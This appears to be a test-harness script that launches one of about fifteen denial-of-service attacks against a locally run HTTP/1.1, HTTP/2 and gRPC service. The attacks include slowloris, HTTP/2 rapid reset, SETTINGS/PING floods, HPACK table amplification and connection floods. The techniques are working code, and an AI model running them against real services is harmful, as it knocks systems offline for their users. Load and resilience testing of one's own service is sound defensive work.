import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { setPriority } from "node:os";
import { setTimeout as delay } from "node:timers/promises";
import {
  fields,
  frame,
  frameTypes,
  headerBlock,
  preface,
  requestFrame,
  settingsFrame,
} from "../raw-http2.ts";

/*
 * One attack on the service, as a process of its own: `node attack.ts <name> <port> <address>`. It says "at it" when
 * it has sent what it has, holds on to its connections until its standard input ends, and goes on meanwhile where
 * there is something to go on with.
 */

/** Who attacks, and whom. */
interface Target {
  readonly port: number;
  /** The address that the attack comes from. */
  readonly address: string;
}

// The client of HTTP/2 that takes no answer: it lets nothing be sent on a stream, or everything at once.
const shutWindow = settingsFrame([[4, 0]]);
const wideWindows = Buffer.concat([
  settingsFrame([[4, 0x7fffffff]]),
  frame(frameTypes.windowUpdate, 0, 0, Buffer.from([0x7f, 0, 0, 0])),
]);
const grpc = (path: string): [string, string][] => [
  ...fields("POST", path),
  ["content-type", "application/grpc"],
  ["te", "trailers"],
];
const emptyMessage = Buffer.alloc(5);
const biggest = "/site/swagger-ui-bundle.js";

async function open({ port, address }: Target): Promise<Socket> {
  const socket = connect({ port, host: "127.0.0.1", localAddress: address });
  socket.on("error", () => undefined);
  await Promise.race([once(socket, "connect"), once(socket, "close")]).catch(() => undefined);
  return socket;
}

/** Opens connections, as many as are let in. @returns those that it opened, each after what it has to say first */
async function openMany(
  target: Target,
  count: number,
  first: (index: number) => Uint8Array,
): Promise<Socket[]> {
  const sockets: Socket[] = [];
  for (let index = 0; index < count; index += 1) {
    const socket = await open(target);
    const bytes = first(index);
    if (!socket.destroyed && bytes.byteLength > 0) socket.write(bytes);
    sockets.push(socket);
  }
  return sockets;
}

/** Repeats until the process is ended. */
async function forever(step: () => unknown, pauseMs: number): Promise<never> {
  for (;;) {
    await step();
    // sleep: the rhythm of the attack.
    await delay(pauseMs);
  }
}

function filled(bytes: number, text: string): Buffer {
  return Buffer.from(text.repeat(Math.ceil(bytes / text.length)));
}

/** What follows answers that the buffers of both ends cannot hold. */
function behind(requests: Buffer): Buffer {
  return Buffer.concat([filled(300, get(biggest)), requests]);
}

const get = (path: string): string => `GET ${path} HTTP/1.1\r\nHost: a\r\n\r\n`;
const ids = (count: number): number[] => Array.from({ length: count }, (_, index) => 2 * index + 1);

const attacks: Readonly<Record<string, (target: Target) => Promise<unknown>>> = {
  "pipelined requests, unread": (target) => openMany(target, 8, () => behind(filled(131_072, get("/livez")))),
  "pipelined requests on many connections, unread": (target) =>
    openMany(target, 200, () => behind(filled(65_536, get("/auth/me")))),
  "pipelined requests with bodies, unread": (target) =>
    openMany(target, 64, () =>
      behind(
        filled(
          262_144,
          `POST /auth/refresh HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}`,
        ),
      ),
    ),
  "watchers of health": (target) =>
    openMany(target, 100, () =>
      Buffer.concat([
        preface,
        settingsFrame([]),
        ...ids(128).flatMap((id) => [
          requestFrame(id, grpc("/grpc.health.v1.Health/Watch"), false),
          frame(frameTypes.data, 1, id, emptyMessage),
        ]),
      ]),
    ),
  "reflection streams": (target) =>
    openMany(target, 100, () =>
      Buffer.concat([
        preface,
        settingsFrame([]),
        ...ids(128).map((id) =>
          requestFrame(id, grpc("/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"), false),
        ),
      ]),
    ),
  "slow readers of the biggest answer": async (target) => {
    const sockets = await openMany(target, 200, () => filled(200, get(biggest)));
    for (const socket of sockets) socket.pause();
  },
  "slow readers of the biggest answer over HTTP/2": async (target) => {
    const request = Buffer.concat(ids(100).map((id) => requestFrame(id, fields("GET", biggest))));
    const sockets = await openMany(target, 100, () => Buffer.concat([preface, wideWindows, request]));
    for (const socket of sockets) socket.pause();
  },
  "shut windows": (target) =>
    openMany(target, 100, () =>
      Buffer.concat([
        preface,
        shutWindow,
        ...ids(128).map((id) => requestFrame(id, fields("GET", "/openapi.json"))),
      ]),
    ),
  "bodies that do not end": async (target) => {
    const chunk = Buffer.alloc(16_384, "a");
    const sockets = await openMany(target, 100, () =>
      Buffer.concat([
        preface,
        settingsFrame([]),
        ...ids(100).map((id) =>
          requestFrame(id, [...fields("POST", "/auth/login"), ["content-type", "application/json"]], false),
        ),
      ]),
    );
    // sleep: within the windows that the service gives, and when it has begun all: whoever exceeds them is sent away.
    await delay(2_000);
    for (let round = 0; round < 3; round += 1) {
      for (const id of ids(100)) {
        const bytes = frame(frameTypes.data, 0, id, chunk);
        for (const socket of sockets.filter(({ destroyed }) => !destroyed)) socket.write(bytes);
        // sleep: the rhythm of the attack.
        await delay(25);
      }
    }
  },
  "headers without end": async (target) => {
    const sockets = await openMany(target, 1_000, () => Buffer.from("GET /livez HTTP/1.1\r\nHost: a\r\n"));
    void forever(() => {
      for (const socket of sockets) if (!socket.destroyed) socket.write("x: y\r\n");
    }, 500);
  },
  "streams opened and reset": (target) =>
    repeat(20, async () => {
      const socket = await open(target);
      const burst = ids(1_000).flatMap((id) => [
        requestFrame(id, fields("GET", "/auth/me")),
        frame(frameTypes.rstStream, 0, id, Buffer.from([0, 0, 0, 8])),
      ]);
      if (!socket.destroyed) socket.write(Buffer.concat([preface, settingsFrame([]), ...burst]));
      // sleep: the service reads what came before the connection ends.
      await delay(50);
      socket.destroy();
    }),
  "streams that the service is made to reset": (target) =>
    repeat(10, async () => {
      const socket = await open(target);
      const overflow = Buffer.from([0x7f, 0xff, 0xff, 0xff]);
      const burst = ids(4_000).flatMap((id) => [
        requestFrame(id, fields("GET", "/auth/me"), false),
        frame(frameTypes.windowUpdate, 0, id, overflow),
      ]);
      if (!socket.destroyed) socket.write(Buffer.concat([preface, settingsFrame([]), ...burst]));
      // sleep: the service reads what came before the connection ends.
      await delay(50);
      socket.destroy();
    }),
  "floods of SETTINGS and PING, unread": async (target) => {
    const flood = Buffer.concat([
      preface,
      ...Array.from({ length: 20_000 }, (_, index) =>
        index % 2 === 0 ? settingsFrame([]) : frame(frameTypes.ping, 0, 0, Buffer.alloc(8)),
      ),
    ]);
    const sockets = await openMany(target, 100, () => flood);
    for (const socket of sockets) socket.pause();
  },
  "headers of one byte each from the table": (target) =>
    openMany(target, 50, () => {
      // RFC 7541 section 6.2.1: put into the dynamic table once, then named by one byte.
      const entry = Buffer.concat([Buffer.from([0x40]), Buffer.from([1, 0x78]), longText(3_900)]);
      const head = headerBlock(fields("GET", "/livez"));
      const again = Buffer.concat([head, Buffer.alloc(7, 0xbe)]);
      return Buffer.concat([
        preface,
        shutWindow,
        frame(frameTypes.headers, 5, 1, Buffer.concat([head, entry])),
        ...ids(127).map((id) => frame(frameTypes.headers, 5, id + 2, again)),
      ]);
    }),
  "many connections": (target) => openMany(target, 3_000, () => Buffer.alloc(0)),
};

function longText(bytes: number): Buffer {
  const rest = bytes - 127;
  return Buffer.concat([Buffer.from([127, (rest % 128) | 128, rest >> 7]), Buffer.alloc(bytes, "a")]);
}

async function repeat(times: number, step: () => Promise<unknown>): Promise<void> {
  for (let index = 0; index < times; index += 1) await step();
}

const [name = "", port, address = "127.0.0.1"] = process.argv.slice(2);
const attack = attacks[name];
if (attack === undefined) throw new Error(`There are these attacks: ${Object.keys(attacks).join("; ")}.`);
// The machine's cores are the service's first.
setPriority(10);
// oxlint-disable-next-line unicorn/no-process-exit -- its connections and loops are what it ends
process.stdin.resume().on("end", () => process.exit(0));
await attack({ port: Number(port), address });
process.stdout.write("at it\n");
